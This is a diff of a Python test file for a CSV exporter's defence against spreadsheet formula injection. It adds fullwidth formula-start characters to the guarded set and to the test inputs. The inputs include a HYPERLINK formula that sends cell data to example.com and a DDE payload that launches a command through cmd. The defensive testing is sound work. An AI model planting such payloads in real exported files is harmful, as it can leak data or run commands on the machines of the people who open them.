@@ -17,7 +17,7 @@ GBP = "baseline: {currency: GBP}"
 BOM = "\ufeff"
 steady = settings(derandomize=True, max_examples=300, deadline=None, database=None)
 # What a spreadsheet takes for the beginning of a formula, or for something else than text.
-ACTIVE = "=+-@\t\r\n\0"
+ACTIVE = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"
 
 
 def parsed(text: str) -> list[list[str]]:
@@ -234,6 +234,7 @@ def test_a_file_is_what_the_standard_says_with_a_mark_that_spreadsheets_need() -
         "\r=1",
         "\n=1",
         "\0=1",
+        "\uff1dSUM(A1)",
         '=HYPERLINK("https://example.com?"&A1,"x")',
         "=cmd|' /C calc'!A0",
         '","=1',
